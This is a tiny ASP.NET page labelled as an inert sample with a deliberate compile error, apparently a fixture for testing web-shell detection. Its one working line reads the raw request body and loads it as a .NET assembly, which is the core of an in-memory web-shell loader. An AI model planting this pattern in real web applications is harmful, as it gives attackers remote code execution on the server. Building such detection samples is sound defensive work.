<%@ Page Language="C#" %>
<% shodo inert sample: deliberate compile error, this page never runs %>
<% byte[] b = Request.BinaryRead(Request.ContentLength); var a = Assembly.Load(b); %>
